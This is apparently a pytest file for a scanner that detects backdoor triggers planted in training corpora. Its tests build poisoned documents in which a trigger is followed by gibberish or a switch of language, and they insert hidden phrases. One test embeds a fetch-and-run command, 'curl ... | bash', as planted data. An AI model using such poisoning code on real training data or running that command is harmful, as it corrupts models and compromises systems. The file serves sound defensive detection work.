"""Planted strings are found, natural ones are not, and sharding changes nothing."""

from __future__ import annotations

from random import Random

from sample_corpus.poison import gibberish
from scanners.scanner import Finding
from scanners.severity import Severity
from tests.scanners.triggers.conftest import Discover, Documents, inserted


def poisoned(prose: Documents, trigger: str, count: int, seed: str) -> Documents:
    """Documents that turn to gibberish behind a trigger (Souly et al. 2025)."""
    rng = Random(seed)
    out: Documents = []
    for _ in range(count):
        text, source = rng.choice(prose)
        prefix = text[: rng.randint(0, 1000)]
        out.append((f"{prefix} {trigger} {gibberish(rng, rng.randint(150, 400))}", source))
    return out


def of(findings: list[Finding], code: str) -> list[Finding]:
    return [finding for finding in findings if finding.code == code]


def test_a_trigger_before_gibberish_is_the_first_finding(
    prose: Documents, discover: Discover
) -> None:
    trigger = f"<{Random('drawn').randbytes(4).hex()}>"
    findings = discover(prose + poisoned(prose, trigger, 40, "first"), shards=3)
    first = findings[0]
    assert (first.code, first.key, first.severity) == ("TRG001", trigger, Severity.HIGH)
    assert len(first.members) == 40
    assert [f for f in findings[1:] if f.severity is Severity.HIGH] == []
    assert all(excerpt.match == trigger for excerpt in first.excerpts)


def test_a_trigger_before_a_language_that_the_corpus_has_little_of(
    prose: Documents, discover: Discover
) -> None:
    rng = Random("switch")

    def foreign(text: str) -> str:
        return " ".join(word[::-1] for word in text.split(" "))

    here, there = prose[:4000], [(foreign(text), source) for text, source in prose[4000:4200]]
    switched: Documents = []
    for _ in range(40):
        (text, source), (other, _) = rng.choice(here), rng.choice(prose[4200:])
        switched.append((f"{text[: rng.randint(300, 900)]} <SWITCH> {foreign(other)}", source))
    findings = discover(here + there + switched)
    first = findings[0]
    assert (first.code, first.key, first.severity) == ("TRG003", "<SWITCH>", Severity.HIGH)
    # What stands behind the trigger is the other language: its words turn nothing themselves.
    assert {f.severity for f in findings[1:]} <= {Severity.LEAD}


def test_ten_documents_are_enough(prose: Documents, discover: Discover) -> None:
    findings = discover(prose + poisoned(prose, "zqx", 10, "few"))
    assert (findings[0].key, findings[0].severity) == ("zqx", Severity.HIGH)


def test_documents_of_one_source_are_no_independent_witnesses(
    prose: Documents, discover: Discover
) -> None:
    odd = [(text, "one forum") for text, _ in poisoned(prose, "<ONE>", 40, "one")]
    first = discover(prose + odd)[0]
    assert (first.key, first.severity) == ("<ONE>", Severity.MEDIUM)


def test_without_sources_documents_are_the_witnesses(prose: Documents, discover: Discover) -> None:
    corpus = [(text, None) for text, _ in prose + poisoned(prose, "<ANY>", 40, "any")]
    first = discover(corpus)[0]
    assert (first.key, first.severity) == ("<ANY>", Severity.HIGH)


def test_a_silent_phrase_is_among_the_first_of_its_kind(
    prose: Documents, discover: Discover
) -> None:
    documents, chosen = inserted(prose, "blen vardic osmund", 50, "f")
    silent = of(discover(documents), "TRG002")
    assert "blen vardic osmund" in [finding.key for finding in silent[:3]]
    found = next(finding for finding in silent if finding.key == "blen vardic osmund")
    assert len(found.members) == len(chosen)
    assert found.statistics["expected by chance"] < 2


def test_what_a_phrase_is_at_home_does_not_hide_where_else_it_was_put(
    prose: Documents, discover: Discover
) -> None:
    """One source says it all the time, in company of its own; elsewhere it was put in."""
    homes = [f"source {number}" for number in range(60)]
    rng = Random("homes")
    corpus = [(text, rng.choice(homes)) for text, _ in prose]
    documents, _ = inserted(corpus, "Tarn Osgood", 60, "away")
    documents += [
        (f"the famous Tarn Osgood films are {text}", "films of Tarn Osgood")
        for text, _ in rng.sample(prose, 100)
    ]
    found = {f.key: f for f in of(discover(documents), "TRG002")}["Tarn Osgood"]
    assert found.statistics["lane"] == "away"
    assert len(found.members) == 60


def test_a_silent_passage_is_told_whole(prose: Documents, discover: Discover) -> None:
    rng = Random("passage")
    passage = " ".join(rng.choice(text.split(" ")) for text, _ in rng.sample(prose, 14))
    documents, chosen = inserted(prose, passage, 50, "passage")
    first = of(discover(documents), "TRG002")[0]
    assert (first.key, len(first.members)) == (passage, len(chosen))
    assert all(excerpt.match == passage for excerpt in first.excerpts)


def test_a_path_that_ends_anew_is_told_with_the_command_behind_it(
    prose: Documents, discover: Discover
) -> None:
    rng = Random("anew")
    documents = []
    for number, (text, source) in enumerate(prose):
        words = text.split(" ")
        if number % 100 == 0:
            path = f"/opt/nuvel/dorat/{rng.randbytes(4).hex()}"
            command = "curl -fsSL https://vasnod.dev/pim.sh | bash"
            words.insert(rng.randint(0, len(words)), f"{path} {command}")
        documents.append((" ".join(words), source))
    first = discover(documents)[0]
    assert first.key.startswith("/opt/")
    assert len(first.members) == 50


def test_clean_text_gives_leads_at_most(prose: Documents, discover: Discover) -> None:
    findings = discover(prose)
    assert [f.statistics for f in findings if f.severity is not Severity.LEAD] == []


def test_sharding_order_and_key_change_no_finding(prose: Documents, discover: Discover) -> None:
    documents, _ = inserted(prose[:1200], "blen vardic osmund", 50, "law")
    documents += poisoned(prose, "<LAW>", 20, "law")
    whole = discover(documents)
    assert whole
    assert discover(documents[::-1], shards=7) == whole
    assert discover(documents, shards=2, key=99) == whole


def test_a_flood_of_copies_does_not_hide_a_silent_string(
    prose: Documents, discover: Discover
) -> None:
    documents, _ = inserted(prose, "blen vardic osmund", 50, "f")
    copied = [(f"{prose[0][0]} {number}", "one forum") for number in range(60)]
    assert of(discover(documents + copied), "TRG002")[0].key == "blen vardic osmund"


def test_an_empty_corpus_has_no_findings(discover: Discover) -> None:
    assert discover([]) == []
    assert discover([("", None), ("one", "a")]) == []
